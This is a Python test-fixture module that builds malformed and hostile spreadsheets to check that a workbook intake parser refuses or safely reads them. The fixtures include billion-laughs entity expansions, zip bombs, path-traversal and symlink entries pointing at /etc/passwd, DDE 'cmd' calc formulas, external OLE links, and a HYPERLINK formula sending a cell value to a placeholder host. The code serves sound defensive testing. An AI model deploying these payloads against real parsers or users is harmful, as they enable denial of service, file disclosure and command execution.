"""Workbooks that are odd or made to do harm (.xlsx, .xlsm, .xls), each with what must become of it.

Made anew in each test, nothing is stored. A verdict is the code of a refusal, or `Taken`: the file is read, and this is
what is told of it.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import xlwt

from niangjia.kernel.intake.sheets.tests.corpus import (
    HEADER,
    NAMES,
    PEOPLE,
    TABLE,
    XML,
    Make,
    boxed,
    inline_rows,
    parts,
    sheet_xml,
    workbook,
)


@dataclass(frozen=True)
class Taken:
    """The roster is read: the names in it, what is told of the file, and how many cells hold formulas."""

    names: tuple[str, ...] = tuple(NAMES)
    warnings: tuple[str, ...] = ()
    hidden: tuple[int, ...] = ()
    hidden_sheets: tuple[str, ...] = ()
    formulas: int = 0


Verdict = str | Taken
GOOD = sheet_xml(inline_rows(TABLE))
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET = "xl/worksheets/sheet1.xml"
_LAUGHS = "<!DOCTYPE r [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + at)} '{f'&{chr(97 + at)};' * 10}'>" for at in range(9)
)


def _with(more: dict[str, Any], **changed: Any) -> Make:
    return boxed(parts(GOOD, **changed) | more)


def _patched(make: Make, patch: Callable[[bytearray], bytes | bytearray]) -> Make:
    """The file of `make` after its bytes were changed."""

    def patched(folder: Path) -> Path:
        path = make(folder)
        path.write_bytes(patch(bytearray(path.read_bytes())))
        return path

    return patched


def later(build: Callable[[], Make]) -> Make:
    """Large contents are made when the file is written, not when the corpus is read."""

    def make(folder: Path) -> Path:
        return build()(folder)

    return make


def _directory_entry(content: bytes, name: str) -> int:
    return content.rfind(b"PK\x01\x02", 0, content.rfind(name.encode()))


def _overlapping(content: bytearray) -> bytearray:
    """Styles and sheet are the same bytes, as in the bombs that unpack one core over and over."""
    sheet, strings = (_directory_entry(content, name) for name in (_SHEET, "xl/sharedStrings.xml"))
    content[strings + 42 : strings + 46] = content[sheet + 42 : sheet + 46]
    content[strings + 16 : strings + 28] = content[sheet + 16 : sheet + 28]
    return content


def _quoting(content: bytearray) -> bytearray:
    """A part that claims to be as long as all that follows it."""
    at = _directory_entry(content, "[Content_Types].xml")
    struct.pack_into("<I", content, at + 20, len(content) - 200)
    return content


def _wrong_sum(content: bytearray) -> bytearray:
    at = _directory_entry(content, _SHEET)
    struct.pack_into("<I", content, at + 16, 0xDEADBEEF)
    return content


def _secret_flag(content: bytearray) -> bytearray:
    at = _directory_entry(content, _SHEET)
    struct.pack_into("<H", content, at + 8, 1)
    return content


def _unknown_packing(content: bytearray) -> bytearray:
    at = _directory_entry(content, _SHEET)
    struct.pack_into("<H", content, at + 10, 97)
    return content


def many_parts(folder: Path) -> Path:
    """Ten thousand parts more than any workbook has."""
    path = boxed(parts(GOOD))(folder)
    with zipfile.ZipFile(path, "a") as box:
        for at in range(10_001):
            box.writestr(zipfile.ZipInfo(f"x/{at}"), b"")
    return path


def link_and_escape(folder: Path) -> Path:
    """Parts that would be written elsewhere, were they ever unpacked: a symbolic link, paths upwards."""
    path = boxed(parts(GOOD) | {"../../../../tmp/escaped": "x", "/etc/escaped": "x", "C:\\escaped": "x"})(folder)
    link = zipfile.ZipInfo("xl/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as box:
        box.writestr(link, "/etc/passwd")
    return path


def many_sheets(folder: Path) -> Path:
    """A thousand sheets."""
    made = parts(GOOD)
    sheets = "".join(f'<sheet name="{at}" sheetId="{at}" r:id="rId2"/>' for at in range(1, 1001))
    made["xl/workbook.xml"] = made["xl/workbook.xml"].replace("</sheets>", sheets + "</sheets>")
    return boxed(made)(folder)


def _swap(part: str, old: str, new: str) -> Make:
    made = parts(GOOD)
    assert old in made[part]
    return boxed(made | {part: made[part].replace(old, new)})


def _all_hidden(state: str) -> Make:
    return _swap("xl/workbook.xml", 'state="visible"', f'state="{state}"')


def _formulas(_book: Any, sheet: Any) -> None:
    """Plain, shared by array, of a link to another file, of a command, in the column of the numbers."""
    for at, row in enumerate(TABLE):
        sheet.write_row(at, 0, row)
    sheet.write_formula(1, 4, "=TODAY()", None, 43529)
    sheet.write_array_formula(2, 4, 3, 4, "{=ROW(A3:A4)}", None, 1)
    sheet.write_formula(3, 5, "='[other.xlsx]Sheet1'!A1", None, "甲厂")
    sheet.write_formula(4, 5, '=HYPERLINK("http://x.invalid/?"&C5,"厂")', None, "厂")
    sheet.write_formula(5, 2, '=TEXT(349921199003070054,"0")', None, PEOPLE[4][2])


def _table_and_shared_formulas() -> Make:
    rows = inline_rows(TABLE)
    row = (
        '<row r="7"><c r="A7"><f t="shared" ref="A7:A9" si="0">1+1</f><v>2</v></c><c r="B7" t="str"><f t="dataTable" '
        'ref="B7" dt2D="1" r1="A1"/><v>石磊</v></c><c r="C7"><f t="array" ref="C7">A1</f><v>1</v></c></row>'
        '<row r="8"><c r="A8"><f t="shared" si="0"/><v>2</v></c><c r="D8"><f>cmd|"/c calc"!A1</f><v>0</v></c></row>'
    )
    return boxed(parts(sheet_xml(rows + row)))


def _cells(*cells: str) -> Make:
    """The roster and one more row, of these cells."""
    return boxed(parts(sheet_xml(f'{inline_rows(TABLE)}<row r="7">{"".join(cells)}</row>')))


def _odd_sheet(before: str = "", after: str = "") -> Make:
    return boxed(
        parts(GOOD.replace("<sheetData>", before + "<sheetData>").replace("</worksheet>", after + "</worksheet>"))
    )


_MANY_MERGED = (
    "<mergeCells>" + "".join(f'<mergeCell ref="A{at}:B{at * 7 % 99991}"/>' for at in range(1, 60_000)) + "</mergeCells>"
)
_STYLES = (
    "<styleSheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><cellXfs>{}</cellXfs></styleSheet>"
)
_RICH = "<is><r><rPr><b/><rFont val='x'/></rPr><t>陈</t></r><r><t>秀兰</t></r><phoneticPr fontId='1'/><rPh sb='0' eb='1'><t>chen</t></rPh></is>"
_OUTER = (
    '<Relationship Id="rId9" Type="{}/oleObject" TargetMode="External" Target="file:///etc/passwd"/></Relationships>'
)


def _heights(book: Any, sheet: Any) -> None:
    for at, row in enumerate(TABLE):
        sheet.set_row(at, 409 if at else 0.1)
        sheet.write_row(at, 0, row)
        sheet.write_comment(at, 1, "注" * 3000)
    sheet.set_column(0, 16_383, 255)
    book.add_worksheet("=cmd|' calc'!A1").write(0, 0, "<script>")


def _twice_headed(_book: Any, sheet: Any) -> None:
    sheet.write_row(0, 0, [*HEADER, *HEADER])
    for at, row in enumerate(PEOPLE, 1):
        sheet.write_row(at, 0, [*row, *row])


def _odd_values(book: Any, sheet: Any) -> None:
    """Truth, errors, days before the calendar and at its end, times with zones."""
    for at, row in enumerate(TABLE):
        sheet.write_row(at, 0, row)
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    for at, value in enumerate((-1, 2958465, 2958466, 0.5, 1e300), 1):
        sheet.write_number(at, 4, value, day)
    sheet.write_boolean(1, 5, True)
    sheet.write_string(2, 5, "2019-03-05T08:00:00+08:00")
    sheet.write_formula(3, 5, "=#REF!", None, "#REF!")


XLSX: dict[str, tuple[Make, Verdict]] = {
    "many_parts": (many_parts, "too_large"),
    "overlapping_parts": (_patched(_with({}), _overlapping), "damaged"),
    "quoting_parts": (_patched(_with({}), _quoting), "damaged"),
    "part_twice": (
        _patched(_with({"xl/workbook.xmK": "x"}), lambda all_: all_.replace(b"workbook.xmK", b"workbook.xml")),
        "damaged",
    ),
    "part_twice_by_case": (_with({"XL/Workbook.xml": "x"}), "damaged"),
    "wrong_checksum": (_patched(_with({}), _wrong_sum), "damaged"),
    "locked_part": (_patched(_with({}), _secret_flag), "encrypted"),
    "unknown_packing": (_patched(_with({}), _unknown_packing), "damaged"),
    "cut_in_half": (_patched(_with({}), lambda all_: all_[: len(all_) // 2]), "damaged"),
    "only_directory": (_patched(_with({}), lambda all_: all_[all_.find(b"PK\x01\x02") :]), "not_a_sheet"),
    "pdf_behind": (_patched(_with({}), lambda all_: all_ + b"\n%PDF-1.7\n1 0 obj"), Taken()),
    "gif_in_front": (_patched(_with({}), lambda all_: b"GIF89a\x01\0\x01\0\0\0\0;" + all_), "picture"),
    "pdf_in_front": (_patched(_with({}), lambda all_: b"%PDF-1.4\n" + all_), "pdf"),
    "link_and_escape": (link_and_escape, Taken()),
    "many_sheets": (many_sheets, "too_large"),
    "strings_bomb": (
        later(lambda: _with({"xl/sharedStrings.xml": XML + "<sst>" + " " * 60_000_000 + "</sst>"})),
        "too_large",
    ),
    "million_styles": (
        later(lambda: _with({"xl/styles.xml": XML + _STYLES.format("<xf/>" * 1_000_000)})),
        "too_large",
    ),
    "entities_in_styles": (_with({"xl/styles.xml": f"{XML}{_LAUGHS}]><r>&j;</r>"}), "dtd"),
    "laughs_in_workbook": (_swap("xl/workbook.xml", "<workbook ", _LAUGHS + "]><workbook "), "dtd"),
    "laughs_in_sheet": (_swap(_SHEET, "<worksheet ", _LAUGHS + "]><worksheet "), "dtd"),
    "entities_in_utf16": (
        _with(
            {"xl/workbook.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS + "]><r>&j;</r>").encode("utf-16")}
        ),
        "dtd",
    ),
    "sheet_in_utf16": (_with({_SHEET: ('<?xml version="1.0" encoding="UTF-16"?>' + GOOD).encode("utf-16")}), "damaged"),
    "outside_entity_elsewhere": (_with({"docProps/core.xml": f"{XML}{_LAUGHS}]><r>&j;</r>"}), Taken()),
    "sheet_outside": (
        _swap("xl/_rels/workbook.xml.rels", 'Target="worksheets', 'TargetMode="External" Target="worksheets'),
        "no_sheet",
    ),
    "sheet_upwards": (_swap("xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "../../../etc/passwd"), "no_sheet"),
    "sheet_is_workbook": (_swap("xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "workbook.xml"), "no_sheet"),
    "nested_deep": (_swap("xl/workbook.xml", "<sheets>", "<x>" * 50_000 + "<sheets>"), "damaged"),
    "macros": (_with({"xl/vbaProject.bin": "Attribute VB_Name"}), Taken(warnings=("macros_left_out",))),
    "embedded_and_linked": (
        _with(
            {
                "xl/embeddings/oleObject1.bin": "MZ",
                "xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>",
                "xl/worksheets/_rels/sheet1.xml.rels": "<Relationships>" + _OUTER.format(_REL),
            }
        ),
        Taken(),
    ),
    "formulas_of_many_kinds": (workbook(_formulas), Taken(formulas=5)),
    "shared_and_table_formulas": (_table_and_shared_formulas(), Taken(names=(*NAMES, "石磊"), formulas=5)),
    "merged_without_end": (later(lambda: _odd_sheet(after=_MANY_MERGED)), Taken()),
    "columns_declared": (_odd_sheet(before='<cols><col min="1" max="16384" width="255" hidden="1"/></cols>'), Taken()),
    "rich_text": (_cells(f'<c r="B7" t="inlineStr">{_RICH}</c>'), Taken(names=(*NAMES, "陈秀兰"))),
    "string_out_of_reach": (_cells('<c r="B7" t="s"><v>4000000000</v></c>'), "damaged"),
    "cell_in_row_zero": (_cells('<c r="B0"><v>1</v></c>'), "damaged"),
    "cell_beyond_names": (_cells('<c r="ZZZZZZZ7"><v>1</v></c>'), "too_many_columns"),
    "row_beyond_numbers": (boxed(parts(sheet_xml('<row r="99999999999999"><c><v>1</v></c></row>'))), "missing_columns"),
    "rows_backwards": (
        boxed(parts(sheet_xml(inline_rows(TABLE) + '<row r="1"><c r="A1"><v>1</v></c></row>'))),
        Taken(),
    ),
    "all_hidden": (_all_hidden("hidden"), "no_sheet"),
    "all_very_hidden": (_all_hidden("veryHidden"), "no_sheet"),
    "odd_heights_notes_names": (workbook(_heights), Taken(hidden=(1,))),
    "headers_twice": (workbook(_twice_headed), Taken()),
    "odd_values": (workbook(_odd_values), Taken(formulas=1)),
    "header_only": (boxed(parts(sheet_xml(inline_rows([HEADER])))), Taken(names=())),
    "no_rows": (boxed(parts(sheet_xml(""))), "missing_columns"),
    "one_long_cell": (
        later(lambda: _cells(f'<c r="F7" t="inlineStr"><is><t>{"厂a1" * 700_000}</t></is></c>')),
        Taken(),
    ),
}


# ── old workbooks ──────────────────────────────────────────────────────────────────────────────────
def old(fill: Callable[[Any, Any], None], name: str = "roster.xls") -> Make:
    """An old workbook filled on a sheet 名册."""

    def make(folder: Path) -> Path:
        book = xlwt.Workbook()
        fill(book, book.add_sheet("名册", cell_overwrite_ok=True))
        book.save(str(folder / name))
        return folder / name

    return make


def _old_plain(_book: Any, sheet: Any) -> None:
    for at, row in enumerate(TABLE):
        for column, value in enumerate(row):
            sheet.write(at, column, value)


def _old_hidden(book: Any, sheet: Any) -> None:
    _old_plain(book, sheet)
    sheet.row(2).hidden = True
    book.add_sheet("旧名单").visibility = 2


def _old_far(book: Any, sheet: Any) -> None:
    _old_plain(book, sheet)
    sheet.write(65_535, 255, 1)


def _old_formulas(book: Any, sheet: Any) -> None:
    _old_plain(book, sheet)
    sheet.write(3, 4, xlwt.Formula('HYPERLINK("http://x.invalid";"x")'))


def _record(content: bytearray, kind: int, after: int = 512) -> int:
    return content.find(struct.pack("<H", kind), content.find(b"\x09\x08\x10\x00", after))


def _under_password(content: bytearray) -> bytearray:
    at = _record(content, 0x00E1)
    struct.pack_into("<H", content, at, 0x002F)
    return content


def _huge_strings(content: bytearray) -> bytearray:
    at = content.find(b"\xfc\x00")
    struct.pack_into("<II", content, at + 4, 0xFFFFFFFF, 0xFFFFFFFF)
    return content


def _endless_chain(content: bytearray) -> bytearray:
    """The table of sectors leads in a circle."""
    (first,) = struct.unpack_from("<I", content, 76)
    at = 512 * (first + 1)
    for number in range(128):
        struct.pack_into("<I", content, at + 4 * number, max(number - 1, 0))
    return content


_OLD_WARNINGS = ("cached_values",)
XLS: dict[str, tuple[Make, Verdict]] = {
    "old": (old(_old_plain), Taken(warnings=_OLD_WARNINGS)),
    "old_by_another_name": (old(_old_plain, "roster.et"), Taken(warnings=_OLD_WARNINGS)),
    "old_hidden": (old(_old_hidden), Taken(warnings=_OLD_WARNINGS, hidden=(3,), hidden_sheets=("旧名单",))),
    "old_formulas": (old(_old_formulas), Taken(warnings=_OLD_WARNINGS)),
    "old_far_cell": (old(_old_far), "too_large"),
    "old_password": (_patched(old(_old_plain), _under_password), "encrypted"),
    "old_huge_strings": (_patched(old(_old_plain), _huge_strings), Taken(warnings=_OLD_WARNINGS)),
    "old_endless_chain": (_patched(old(_old_plain), _endless_chain), "too_large"),
    "old_cut": (_patched(old(_old_plain), lambda all_: all_[:2048]), "not_a_sheet"),
    "old_only_head": (_patched(old(_old_plain), lambda all_: all_[:512]), "not_a_sheet"),
}


def nested(depth: int) -> bytes:
    """A box in a box in a box."""
    content = b"x" * 1000
    for _level in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as box:
            for at in range(10):
                box.writestr(f"{at}.zip", content)
        content = made.getvalue()
    return content
